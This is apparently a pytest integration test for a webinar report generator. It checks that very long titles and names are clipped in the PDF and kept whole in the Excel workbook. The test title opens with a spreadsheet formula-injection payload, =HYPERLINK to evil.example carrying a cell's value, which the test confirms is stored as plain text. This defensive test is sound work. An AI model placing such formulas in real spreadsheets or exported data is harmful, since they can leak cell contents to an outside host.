"""A hostile title or name: bounded in the PDF, whole (and never a formula) in the workbook.

A 10,000-character webinar name once made a 28-page PDF for one participant. The PDF
now shows at most 200 characters of a title and 120 of any table cell (the last one
an ellipsis); the workbook keeps every character, and a title that looks like a
formula stays text there (``quotePrefix`` on every sheet's title cell).
"""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import urlsplit

import openpyxl
import pytest
from pypdf import PdfReader

from webstat.reports import render_event_session_report

pytestmark = pytest.mark.integration

# 199 characters that start like a formula, then a marker that must not reach the PDF
HEAD = ('=HYPERLINK("http://evil.example/?q="&A3,"click") ' + "Вебинар о длинных названиях " * 7)[
    :199
]
TITLE = HEAD + "TITLE-TAIL " + "я" * 10_000
NAME = "Б" * 119 + "NAME-TAIL" + "б" * 10_000


def local(uri: str) -> Path:
    return Path(urlsplit(uri).path)


def squash(text: str) -> str:
    return re.sub(r"\s", "", text)


def test_a_10000_character_title_and_name(marts, worked_example, settings_for, in_runs):
    sid = marts.insert_worked_example("es-long-title", webinar_name=TITLE)
    marts.execute(
        "update marts.fct_participants set last_name = %s, full_name = 'Анна ' || %s"
        " where event_session_id = %s and participant_id = 'u-anna'",
        (NAME, NAME, sid),
    )
    settings = settings_for()
    with marts.connect() as conn:
        long = render_event_session_report(conn, sid, settings)
        short = render_event_session_report(conn, worked_example, settings)

    pdf = PdfReader(str(local(long.files["report.pdf"])))
    # the worked example fills 3 pages (summary, tables, notes); its title clipped to 200
    # characters takes two more lines of the header and at most one more page (not 28)
    assert len(PdfReader(str(local(short.files["report.pdf"]))).pages) == 3
    assert len(pdf.pages) in (3, 4)
    assert pdf.metadata.title == HEAD + "…"
    text = " ".join(page.extract_text() or "" for page in pdf.pages)
    assert squash(HEAD + "…") in squash(text)
    assert "TITLE-TAIL" not in text and "NAME-TAIL" not in squash(text)
    # Anna's name in the PDF's table is "Анна " + NAME cut to 120 characters, the last
    # "…", wrapped over lines of its column
    assert in_runs("Анна" + "Б" * 114 + "…", squash(text))
    assert long.row_counts["pdf_participants"] == 5

    wb = openpyxl.load_workbook(local(long.files["report.xlsx"]))
    event = {r[0].value: r[1] for r in wb["Мероприятие"].iter_rows(min_row=3) if r[0].value}
    assert (event["Вебинар"].value, event["Вебинар"].quotePrefix) == (TITLE, True)
    for ws in wb.worksheets:
        assert ws["A1"].data_type == "s" and ws["A1"].value.startswith(TITLE + " · "), ws.title
        assert ws["A1"].quotePrefix, ws.title
    headers = [c.value for c in wb["Участники"][2]]
    last = headers.index("Фамилия")
    assert NAME in [row[last].value for row in wb["Участники"].iter_rows(min_row=3)]
